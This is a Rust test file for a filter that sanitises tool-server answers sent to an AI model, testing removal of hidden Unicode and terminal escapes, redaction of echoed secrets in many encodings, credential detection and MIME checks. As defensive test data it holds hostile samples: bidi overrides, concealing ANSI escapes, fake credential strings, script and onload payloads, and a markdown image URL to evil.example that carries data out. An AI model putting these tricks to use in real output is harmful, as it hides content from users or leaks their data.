use base64::Engine as _;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::{corpora, schema};

/// Random fixture; never a credential of anything.
const SECRET: &str = "Zk9_wQ/r2+T~m7 Yx&4\"e8=Lp";

fn redactor(secrets: &[&str]) -> Redactor {
    let mut builder = Redactor::builder();
    secrets.iter().for_each(|secret| builder.add(secret.as_bytes()));
    builder.build().unwrap()
}

fn run(answer: &[u8], redactor: &Redactor, shape: Shape<'_>) -> Result<Filtered, FilterRefusal> {
    let spec = FilterSpec { redactor, shape, limits: FilterLimits::default() };
    filter(Bytes::copy_from_slice(answer), &spec)
}

fn plain(answer: &Value) -> Filtered {
    run(answer.to_string().as_bytes(), &Redactor::none(), Shape::Other).unwrap()
}

fn text_of(filtered: &Filtered) -> String {
    let value: Value = serde_json::from_slice(&filtered.bytes).unwrap();
    value["t"].as_str().unwrap().to_owned()
}

mod neutralising {
    use super::*;

    #[test]
    fn what_needs_no_change_is_passed_on_as_it_is() {
        let answer = Bytes::from_static(br#"{ "content":[{"type":"text","text":"a\n\"b\"\t\/ c"}],  "n": 1.50e0 }"#);
        let spec = FilterSpec {
            redactor: &redactor(&[SECRET]),
            shape: Shape::ToolResult(None),
            limits: FilterLimits::default(),
        };
        let filtered = filter(answer.clone(), &spec).unwrap();
        assert!(!filtered.changed && filtered.flags.is_empty());
        assert_eq!(filtered.bytes.as_ptr(), answer.as_ptr(), "no copy");
    }

    #[test]
    fn everything_between_strings_stays_byte_for_byte() {
        let answer = "{ \"a\\u200b\" : 1.0 ,\n\"b\":[\"x\\u202ey\", null ,\"é\"],\"c\":-0}";
        let filtered = run(answer.as_bytes(), &Redactor::none(), Shape::Other).unwrap();
        assert_eq!(filtered.bytes, "{ \"a\\\\u{200b}\" : 1.0 ,\n\"b\":[\"xy\", null ,\"é\"],\"c\":-0}");
        assert!(filtered.changed && filtered.flags.contains(&Flag::Neutralised));
    }

    #[test]
    fn attack_13_the_corpus_of_hidden_characters() {
        const STRUCTURAL: [&str; 12] = [
            "tag_chars",
            "zero_width_bits",
            "variation_selector_bytes",
            "bidi_isolate",
            "bidi_override",
            "bom_split",
            "c1_csi",
            "ansi_conceal",
            "ansi_erase",
            "ansi_osc52",
            "ansi_osc8",
            "carriage_return_overwrite",
        ];
        let (mut found, mut structural, mut wrong, mut legal) = (0, 0, Vec::new(), 0);
        for row in corpora::rows("unicode_terminal") {
            let filtered = plain(&json!({ "t": row.text }));
            if row.attack && STRUCTURAL.contains(&row.family.as_str()) {
                structural += 1;
                assert!(filtered.flags.contains(&Flag::Neutralised), "{} {:?}", row.family, row.text);
                let left = text_of(&filtered);
                assert!(neutralise(&left).is_none(), "{left:?}");
                found += 1;
            } else if !row.attack {
                legal += 1;
                if filtered.changed || !filtered.flags.is_empty() {
                    wrong.push((row.family, row.text, text_of(&filtered)));
                }
            }
        }
        println!(
            "hidden characters: {found} of {structural} structural, {} of {legal} legal uses changed",
            wrong.len()
        );
        assert!(structural >= 30 && legal >= 10, "the corpus is there");
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn what_people_write_stays() {
        let legal = [
            "👨‍👩‍👧‍👦 👩🏽‍💻 🏳️‍🌈 ❤️ ☀️ 1️⃣ ©️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿🏴󠁧󠁢󠁳󠁣󠁴󠁿🏴󠁧󠁢󠁷󠁬󠁳󠁿",
            "↔️ ⏏️ ‼️ ™️ 👩‍❤️‍💋‍👨 🧑‍⚕️ 👁️‍🗨️",
            "می\u{200c}خواهم نمی\u{200c}دانم",
            "क्\u{200d}ष श्री\u{200d}",
            "ශ්\u{200d}රී ලංකාව",
            "ভাষা\u{200c} ক্\u{200d}ষ",
            "שלום \u{200f}abc\u{200e} 123",
            "العربية \u{200f}(ABC)\u{200f}",
            "un\u{ad}glaub\u{ad}lich",
            "葛\u{e0100}城 辻\u{e0101}",
            "ភាសា\u{200b}ខ្មែរ",
            "ภาษา\u{200b}ไทย",
            "\u{feff}{\"a\":1}",
            "line1\r\nline2\r\r\n",
            "\u{1b}[32mok\u{1b}[0m \u{1b}[1;31mno\u{1b}[m \u{1b}[38;5;208mx\u{1b}[48;2;1;2;3my\u{1b}[0m",
            "שלום \u{2068}user\u{2069} נכנס",
            "ᠮᠣᠩᠭᠣᠯ\u{180b}",
            "naïve — “quotes” … 日本語 Ａ １",
            "a\tb\nc",
            "Straße Ω≠∑ ⅀ ∩\u{fe00}",
        ];
        for text in legal {
            assert_eq!(neutralise(text), None, "{text}");
        }
    }

    #[test]
    fn what_hides_reorders_or_overwrites_does_not_stay() {
        let hostile = [
            ("a\u{200b}b", "ab"),
            ("a\u{200d}b", "ab"),
            ("a\u{2060}\u{2061}b", "ab"),
            ("x\u{200c}\u{200d}y", "xy"),
            ("pay \u{202e}evil\u{202c}", "pay evil"),
            ("a\u{2067}b\u{2069}", "ab"),
            ("a\u{feff}b", "ab"),
            ("A\u{fe0f}B", "AB"),
            ("😀\u{fe0f}\u{fe0f}\u{fe0f}", "😀"),
            ("😀\u{e0139}\u{e0140}", "😀"),
            ("葛\u{e0100}\u{e0101}", "葛"),
            ("🏴\u{e0069}\u{e0067}\u{e006e}\u{e007f}", "🏴"),
            ("\u{e0001}x", "x"),
            ("5\r6", "5\n6"),
            ("a\u{2028}b", "a\nb"),
            ("\u{1b}]8;;http://e\u{1b}\\t", "␛]8;;http://e␛\\t"),
            ("\u{1b}[8mhid\u{1b}[0m", "␛[8mhid\u{1b}[0m"),
            ("\u{1b}[30;40mhid", "␛[30;40mhid"),
            ("\u{1b}[37m\u{1b}[47mhid", "\u{1b}[37m␛[47mhid"),
            ("\u{1b}[2K", "␛[2K"),
            ("\u{9b}2J", "\\u{9b}2J"),
            ("a\u{8}b\u{7f}\0", "a␈b␡␀"),
            ("\u{3164}\u{115f}", ""),
            ("e\u{ad}v\u{ad}i\u{ad}l", "evil"),
            ("\u{200e}\u{200f}abc", "abc"),
            ("ש\u{200e}\u{200f}\u{200e}", "ש"),
            ("ש \u{2067}abc\u{2069}", "ש abc"),
            ("ש \u{2066}abc", "ש abc"),
            // Hidden characters that keep others apart until they are taken out.
            ("ש\u{200f}\u{200b}\u{200f}\u{200b}\u{200e}", "ש"),
            ("\u{1b}[5mx\u{1b}[1337mx", "\u{1b}[5mx␛[1337mx"),
            ("می\u{200c}\u{200c}\u{200c}خ", "میخ"),
        ];
        for (text, visible) in hostile {
            assert_eq!(neutralise(text).as_deref(), Some(visible), "{text:?}");
        }
    }

    #[test]
    fn attack_11_every_channel_is_the_same() {
        let bad = "a\u{202e}b\u{e0041}";
        let channels = [
            json!({ "content": [{ "type": "text", "text": bad }] }),
            json!({ "content": [{ "type": "text", "text": bad }], "isError": true }),
            json!({ "structuredContent": { "x": [{ "y": bad }] } }),
            json!({ "contents": [{ "uri": "a:b", "text": bad }] }),
            json!({ "content": [{ "type": "resource", "resource": { "uri": "a:b", "text": bad } }] }),
            json!({ "content": [{ "type": "resource_link", "uri": "a:b", "name": bad }] }),
            json!({ "messages": [{ "role": "user", "content": { "type": "text", "text": bad } }] }),
            json!({ "_meta": { "k": bad } }),
            json!({ "message": bad, "requestedSchema": { "properties": { "a": { "title": bad } } } }),
            json!({ "progress": 1, "message": bad }),
            json!({ "level": "info", "data": { "deep": [bad] } }),
            json!({ "completion": { "values": [bad] } }),
            json!({ "code": 1, "message": bad }),
            json!({ "member": { "name\u{200b}": 1 } }),
        ];
        for channel in channels {
            for shape in [Shape::Other, Shape::Content, Shape::ToolResult(None)] {
                let filtered = run(channel.to_string().as_bytes(), &Redactor::none(), shape).unwrap();
                let text = std::str::from_utf8(&filtered.bytes).unwrap();
                assert!(!text.chars().any(|c| matches!(c, '\u{202e}' | '\u{e0041}' | '\u{200b}')), "{text:?}");
                assert!(filtered.flags.contains(&Flag::Neutralised));
            }
        }
    }

    #[test]
    fn names_that_differ_in_hidden_characters_stay_apart() {
        let filtered = plain(&json!({ "a": 1, "a\u{200b}": 2, "a\u{200c}": 3 }));
        let value: Value = serde_json::from_slice(&filtered.bytes).unwrap();
        assert_eq!(value.as_object().unwrap().len(), 3);
    }

    proptest! {
        /// Whatever comes: the result is JSON of the same shape, filtering it again changes nothing, and no control
        /// character but tab, line feed and CRLF is left outside of colours.
        #[test]
        fn filtering_is_stable_and_leaves_no_controls(text in "\\PC*[\u{0}-\u{1f}\u{7f}-\u{9f}\u{200b}-\u{200f}\u{202a}-\u{202e}\u{e0020}-\u{e007f}\u{fe0f}a\u{5d0}]{0,12}\\PC{0,8}") {
            let filtered = plain(&json!({ "t": text, "n": [1, true, null] }));
            let once = text_of(&filtered);
            let again = run(&filtered.bytes, &Redactor::none(), Shape::Other).unwrap();
            prop_assert_eq!(neutralise(&once), None, "once is enough");
            prop_assert!(serde_json::from_slice::<Value>(&again.bytes).is_ok());
            for c in once.replace("\r\n", "").chars().filter(|c| *c != '\u{1b}') {
                prop_assert!(!matches!(c, '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}'), "{:?}", once);
            }
        }
    }
}

mod redacting {
    use super::*;

    /// The secret in every encoding an echo may use.
    fn encodings(secret: &str) -> Vec<(&'static str, String)> {
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        let each = |form: &dyn Fn(char) -> String| secret.chars().map(form).collect::<String>();
        let utf16: Vec<u8> = secret.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let utf16_be: Vec<u8> = secret.encode_utf16().flat_map(u16::to_be_bytes).collect();
        let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
        let shifted = |shift: usize| STANDARD.encode(format!("{}{secret} and more", "#".repeat(shift)));
        let url = |keep: &str| {
            each(&|c| {
                if c.is_ascii_alphanumeric() || keep.contains(c) {
                    c.to_string()
                } else {
                    format!("%{:02X}", u32::from(c))
                }
            })
        };
        let wrapped = shifted(1)
            .as_bytes()
            .chunks(10)
            .map(|chunk| std::str::from_utf8(chunk).unwrap().to_owned())
            .collect::<Vec<_>>();
        vec![
            ("raw", secret.to_owned()),
            ("upper", secret.to_uppercase()),
            ("lower", secret.to_lowercase()),
            ("url", url("-_.~")),
            ("url lower", url("").to_lowercase()),
            ("url all", each(&|c| format!("%{:02x}", u32::from(c)))),
            ("form", url("-_.").replace("%20", "+")),
            ("url twice", url("").replace('%', "%25")),
            ("json", serde_json::to_string(secret).unwrap()),
            ("json twice", serde_json::to_string(&serde_json::to_string(secret).unwrap()).unwrap()),
            ("json u", each(&|c| format!("\\u{:04x}", u32::from(c)))),
            ("x", each(&|c| format!("\\x{:02X}", u32::from(c)))),
            ("base64 0", shifted(0)),
            ("base64 1", shifted(1)),
            ("base64 2", shifted(2)),
            ("base64url", URL_SAFE_NO_PAD.encode(format!("u:{secret}"))),
            ("base64 utf16", STANDARD.encode(&utf16)),
            ("base64 utf16be", STANDARD.encode([&[1], &utf16_be[..]].concat())),
            ("wrapped", wrapped.join("\r\n  ")),
            ("base64 in url", shifted(0).replace('+', "%2B").replace('/', "%2f").replace('=', "%3D")),
            ("hex", hex(secret.as_bytes())),
            ("hex upper", hex(secret.as_bytes()).to_uppercase()),
            ("hex utf16", hex(&utf16)),
            ("hex colons", secret.bytes().map(|b| format!("{b:02X}")).collect::<Vec<_>>().join(":")),
            ("html", secret.replace('&', "&amp;").replace('"', "&quot;")),
            ("html dec", each(&|c| format!("&#{};", u32::from(c)))),
            ("html hex", each(&|c| format!("&#x{:x};", u32::from(c)))),
            ("html zeros", each(&|c| format!("&#x00{:X}", u32::from(c)) + ";")),
            ("utf16", String::from_utf8(utf16).unwrap()),
            ("reversed", secret.chars().rev().collect()),
            ("split by hidden", each(&|c| format!("{c}\u{200b}"))),
        ]
    }

    #[test]
    fn attack_15_an_echoed_secret_is_found_in_every_encoding() {
        let (redactor, others) =
            (redactor(&[SECRET, "another-secret-0123456789"]), redactor(&["unrelated-secret-value-42"]));
        for (name, encoded) in encodings(SECRET) {
            for around in ["{}", "token={}&x=1", "before {} after", "<a href='{}'>"] {
                let text = around.replace("{}", &encoded);
                for answer in [json!({ "t": text }), json!({ "a": [{ text.clone(): 1 }], "t": "" })] {
                    let filtered = run(answer.to_string().as_bytes(), &redactor, Shape::Other).unwrap();
                    assert!(filtered.redactions.exact >= 1, "{name}: {text:?}");
                    assert!(filtered.flags.contains(&Flag::SecretEchoed));
                    let left = String::from_utf8(filtered.bytes.to_vec()).unwrap();
                    assert!(left.contains(REDACTED) && redactor.redact(&left).is_none(), "{name}: {left:?}");
                }
                assert_eq!(others.redact(&text), None, "{name}");
            }
        }
    }

    #[test]
    fn attack_15_a_stream_is_redacted_at_every_split_point() {
        let redactor = redactor(&[SECRET]);
        for (name, encoded) in encodings(SECRET).into_iter().filter(|(name, _)| *name != "split by hidden") {
            let whole = format!("first line\n{encoded}\nlast line of it").into_bytes();
            for cut in 0..=whole.len() {
                let mut stream = StreamRedactor::new(&redactor);
                let mut out = stream.push(&whole[..cut]);
                out.extend(stream.push(&whole[cut..]));
                let (rest, count) = stream.finish();
                out.extend(rest);
                assert!(
                    count >= 1 && redactor.redact_bytes(&out).is_none(),
                    "{name} cut at {cut}: {}",
                    String::from_utf8_lossy(&out)
                );
                assert!(out.starts_with(b"first line") && out.ends_with(b"last line of it"), "{name}");
            }
        }
    }

    proptest! {
        /// The same bytes, cut anyhow, come out the same.
        #[test]
        fn a_stream_does_not_depend_on_how_it_was_cut(
            parts in proptest::collection::vec(prop_oneof![Just("s3cret-value".to_owned()), Just("czNjcmV0LXZhbHVl".to_owned()), "[a-z0-9 \n%\\\\&-]{0,40}"], 0..12),
            cuts in proptest::collection::vec(1..30_usize, 1..40),
        ) {
            let redactor = redactor(&["s3cret-value"]);
            let whole = parts.concat().into_bytes();
            let mut stream = StreamRedactor::new(&redactor);
            let (mut out, mut rest) = (Vec::new(), &whole[..]);
            for cut in cuts {
                let (now, later) = rest.split_at(cut.min(rest.len()));
                out.extend(stream.push(now));
                rest = later;
            }
            out.extend(stream.push(rest));
            let (tail, _) = stream.finish();
            out.extend(tail);
            let expected = redactor.redact_bytes(&whole).map_or(whole, |(out, _)| out);
            prop_assert_eq!(String::from_utf8_lossy(&out), String::from_utf8_lossy(&expected));
        }

        /// Ordinary text holds no secret.
        #[test]
        fn nothing_is_found_where_nothing_is(text in "[ -~\n]{0,200}") {
            prop_assume!(!text.to_lowercase().contains("correct-horse"));
            prop_assert_eq!(redactor(&["correct-horse-battery-staple"]).redact(&text), None);
        }
    }

    #[test]
    fn a_secret_that_is_a_number_is_found_as_a_number() {
        let redactor = redactor(&["8675309123"]);
        let answer = br#"{"a":8675309123,"b":[-8675309123, 18675309123],"c":"8675309123","d":42}"#;
        let filtered = run(answer, &redactor, Shape::Other).unwrap();
        assert_eq!(filtered.bytes, r#"{"a":"[redacted]","b":["[redacted]", "[redacted]"],"c":"[redacted]","d":42}"#);
    }

    #[test]
    fn short_secrets_are_counted_not_looked_for() {
        let mut builder = Redactor::builder();
        builder.add(b"abc");
        builder.add(b" pin7 ");
        let redactor = builder.build().unwrap();
        assert_eq!(redactor.ignored(), 1);
        assert_eq!(redactor.redact("abc PIN7").unwrap(), ("abc [redacted]".to_owned(), 1));
        assert_eq!(format!("{redactor:?}"), "Redactor(..)");
    }

    #[test]
    fn attack_18_a_secret_in_arguments_is_found_wherever_it_is() {
        let redactor = redactor(&[SECRET, "123456789"]);
        let url = SECRET.replace('/', "%2F");
        let arguments = json!({
            "url": format!("https://x/?k={url}"), "body": { "a/b": [1, "ok", SECRET] }, SECRET: 5, "n": 123456789, "fine": "text",
        });
        let mut found = redactor.find_in(&arguments);
        found.sort();
        assert_eq!(found, ["/[redacted]", "/body/a~1b/2", "/n", "/url"]);
        assert!(redactor.find_in(&json!({ "a": "nothing", "b": 12345 })).is_empty());
    }

    #[test]
    fn patterns_are_measured_on_the_corpus() {
        let (mut caught, mut positives, mut missed) = (0, 0, Vec::new());
        let (mut wrong, mut look_alikes, mut ordinary_wrong, mut ordinary) = (Vec::new(), 0, 0, 0);
        for row in corpora::rows("secret_lines") {
            let replaced = plain(&json!({ "t": row.text })).redactions.pattern > 0;
            match (row.attack, row.family == "ordinary_output") {
                (true, _) => {
                    positives += 1;
                    caught += usize::from(replaced);
                    if !replaced {
                        missed.push((row.family, row.text));
                    }
                }
                (false, true) => {
                    ordinary += 1;
                    ordinary_wrong += usize::from(replaced);
                }
                (false, false) => {
                    look_alikes += 1;
                    if replaced {
                        wrong.push((row.family, row.text));
                    }
                }
            }
        }
        let outputs = corpora::rows("injection_tool_outputs");
        let negatives = corpora::rows("hard_negatives");
        let others = outputs.iter().chain(&negatives).filter(|row| !row.attack);
        for row in others {
            ordinary += 1;
            ordinary_wrong += usize::from(plain(&json!({ "t": row.text })).redactions.pattern > 0);
        }
        println!("credentials: {caught} of {positives} replaced; missed {missed:#?}");
        println!("{} of {look_alikes} look-alikes: {wrong:#?}; {ordinary_wrong} of {ordinary} ordinary", wrong.len());
        assert!(caught * 100 >= positives * 85, "recall");
        assert!(wrong.is_empty(), "look-alikes");
        assert!(ordinary_wrong * 100 <= ordinary, "ordinary outputs");
    }

    #[test]
    fn well_known_forms_are_replaced_and_their_look_alikes_are_not() {
        // Put together here so that no scanner takes this file for a leak.
        let forms = [
            format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
            format!("xoxb-{}-{}", "123456789012", "abcDEF123ghiJKL456mno"),
            format!("sk_live_{}", "4eC39HqLyjWDarjtT1zdp7dc"),
            format!("sk-ant-api03-{}", "Ab1-".repeat(3) + &"xYz9Kq2Lm8Np3Rt5".repeat(3)),
            format!("AKIA{}", "IOSFODNN7EXAMPLF"),
            format!("postgres://app:{}@db.example/x", "hunter2hunter"),
            format!(
                "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
                "MIIEpAIBAAKCAQEA0Z3VS5JJcds3".repeat(4)
            ),
            format!(
                "eyJhbGciOiJIUzI1NiJ9.{}.{}",
                "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
            ),
            format!("Authorization: Bearer {}", "a8Fk29dLq0Zx7Wm3Pb5Tn1Rv"),
        ];
        for form in forms {
            let filtered = plain(&json!({ "t": format!("value: {form} end") }));
            assert_eq!(filtered.redactions.pattern, 1, "{form}");
            assert!(text_of(&filtered).starts_with("value: ") && text_of(&filtered).ends_with(" end"));
        }
        let fine = [
            "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "postgres://user:${PASSWORD}@db",
            "postgres://localhost:5432/x",
            "550e8400-e29b-41d4-a716-446655440000",
            "APACHE2 LICENSE APPENDIX",
            "https://x.example/?a=1#frag",
            "discord server",
            "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
            "Bearer authentication is used",
        ];
        for text in fine {
            assert_eq!(plain(&json!({ "t": text })).redactions.pattern, 0, "{text}");
        }
        let key = format!("AIza{}", "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q");
        let flagged = plain(&json!({ "t": key }));
        assert!(!flagged.changed && flagged.flags.contains(&Flag::PossibleCredential), "often a public identifier");
    }

    #[test]
    fn binary_data_is_left_alone_by_patterns() {
        let data = format!("AKIA{}", "IOSFODNN7EXAMPLF");
        assert!(!plain(&json!({ "type": "image", "data": data })).changed);
        assert!(plain(&json!({ "type": "image", "date": data })).changed);
    }
}

mod structuring {
    use super::*;

    fn result(answer: &Value, output: Option<&Value>) -> Result<Filtered, FilterRefusal> {
        let schema = output.map(|schema| schema::compile(schema).unwrap());
        run(answer.to_string().as_bytes(), &Redactor::none(), Shape::ToolResult(schema.as_ref()))
    }

    #[test]
    fn attack_12_structured_content_has_to_fit_the_tools_own_schema() {
        let schema = json!({ "type": "object", "properties": { "n": { "type": "integer" } }, "required": ["n"], "additionalProperties": false });
        assert!(result(&json!({ "content": [], "structuredContent": { "n": 1 } }), Some(&schema)).is_ok());
        for bad in [
            json!({ "structuredContent": { "n": "1" } }),
            json!({ "structuredContent": {} }),
            json!({ "structuredContent": null }),
            json!({ "structuredContent": { "n": 1, "x": 2 } }),
            json!({ "structuredContent": [1] }),
            json!({ "content": [] }),
            json!({ "structuredContent": { "n": 1.5 }, "isError": false }),
        ] {
            assert!(matches!(result(&bad, Some(&schema)), Err(FilterRefusal::Structured(_))), "{bad}");
        }
        for fine in [
            json!({ "content": [], "isError": true }),
            json!({ "resultType": "input_required", "inputRequests": {} }),
            json!({ "task": { "taskId": "x" } }),
        ] {
            assert!(result(&fine, Some(&schema)).is_ok(), "{fine}");
        }
        let escaped = br#"{"structured\u0043ontent":{"n":"1"}}"#;
        let compiled = schema::compile(&schema).unwrap();
        assert!(run(escaped, &Redactor::none(), Shape::ToolResult(Some(&compiled))).is_err());
    }

    #[test]
    fn text_that_says_something_else_is_flagged() {
        let says = |text: &str| {
            let answer = json!({ "content": [{ "type": "text", "text": text }], "structuredContent": { "n": 1 } });
            result(&answer, None).unwrap().flags.contains(&Flag::TextDisagrees)
        };
        assert!(says("{\"n\": 2}"));
        assert!(!says("{ \"n\":1 }") && !says("The number is 1."));
    }

    #[test]
    fn attack_12_binary_data_has_to_be_what_it_says() {
        let encode = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
        let png = encode(b"\x89PNG\r\n\x1a\n rest of the picture");
        let gif = encode(b"GIF89a rest");
        let html = encode(b"  <!DOCTYPE html><script>alert(1)</script>");
        let svg = encode(b"<?xml version='1.0'?><svg onload='x'/>");
        let exe = encode(b"\x7fELF\x02\x01\x01");
        let wav = encode(b"RIFF\0\0\0\0WAVEfmt ");
        let image =
            |data: &str, mime: &str| json!({ "content": [{ "type": "image", "data": data, "mimeType": mime }] });
        let audio =
            |data: &str, mime: &str| json!({ "content": [{ "type": "audio", "data": data, "mimeType": mime }] });
        let blob = |data: &str, mime: &str| json!({ "content": [{ "type": "resource", "resource": { "uri": "a:b", "blob": data, "mimeType": mime } }] });
        for fine in [
            image(&png, "image/png"),
            image(&gif, "IMAGE/GIF; x=y"),
            image(&svg, "image/svg+xml"),
            audio(&wav, "audio/wav"),
            blob(&png, "image/png"),
            blob(&html, "text/html"),
            blob(&exe, "application/octet-stream"),
            blob("AAEC", "application/x-own"),
            image("AAECAw==", "image/x-own"),
            json!({ "content": [{ "type": "text", "text": "\"data\": no" }] }),
        ] {
            assert!(result(&fine, None).is_ok(), "{fine}");
        }
        for bad in [
            image(&gif, "image/png"),
            image(&html, "image/png"),
            image(&svg, "image/png"),
            image(&exe, "image/jpeg"),
            image(&html, "image/x-own"),
            audio(&png, "audio/wav"),
            image(&png, "text/html"),
            audio(&wav, "image/png"),
            blob(&exe, "application/pdf"),
            blob(&html, "image/gif"),
            image("AAEC", "image/png"),
        ] {
            assert!(matches!(result(&bad, None), Err(FilterRefusal::Kind { .. })), "{bad}");
        }
        for broken in ["AAE", "AA==AAAA", "AA A", "****", "=AAA", "AAAA\n"] {
            assert_eq!(result(&image(broken, "image/png"), None), Err(FilterRefusal::NotBase64), "{broken}");
        }
        let contents = json!({ "contents": [{ "uri": "a:b", "blob": html, "mimeType": "image/png" }] });
        assert!(run(contents.to_string().as_bytes(), &Redactor::none(), Shape::Content).is_err());
        let prompt = json!({ "messages": [{ "role": "user", "content": { "type": "image", "data": html, "mimeType": "image/png" } }] });
        assert!(run(prompt.to_string().as_bytes(), &Redactor::none(), Shape::Content).is_err());
    }

    #[test]
    fn answers_that_are_too_large_or_no_json_are_refused() {
        let small = FilterLimits { bytes: 100, blob_bytes: 30 };
        let redactor = Redactor::none();
        let spec = FilterSpec { redactor: &redactor, shape: Shape::ToolResult(None), limits: small };
        let with = |bytes: Vec<u8>| filter(Bytes::from(bytes), &spec).unwrap_err();
        assert_eq!(with(vec![b' '; 101]), FilterRefusal::TooLarge(100));
        let blob = json!({ "content": [{ "type": "image", "data": "A".repeat(44) }] });
        assert_eq!(with(blob.to_string().into_bytes()), FilterRefusal::BlobTooLarge(30));
        for broken in [&b"{\"a\":\"x"[..], b"{\"a\":\"\\ud800\"}", b"{\"a\":\"\xff\"}", b"{\"a\":\"\\q\"}"] {
            assert_eq!(with(broken.to_vec()), FilterRefusal::NotJson, "{broken:?}");
        }
    }

    #[test]
    fn signs_of_hidden_text_are_flagged_and_passed_on() {
        for (text, flag) in [
            ("<!-- do it --> x", Flag::HiddenMarkup),
            ("<div style=\"display:none\">x</div>", Flag::HiddenMarkup),
            ("![x](https://evil.example/p?d=1)", Flag::DataInAddress),
        ] {
            let filtered = plain(&json!({ "t": text }));
            assert!(!filtered.changed && filtered.flags.contains(&flag), "{text}");
        }
        assert!(plain(&json!({ "t": "![logo](https://x.example/logo.png) a < b" })).flags.is_empty());
    }
}
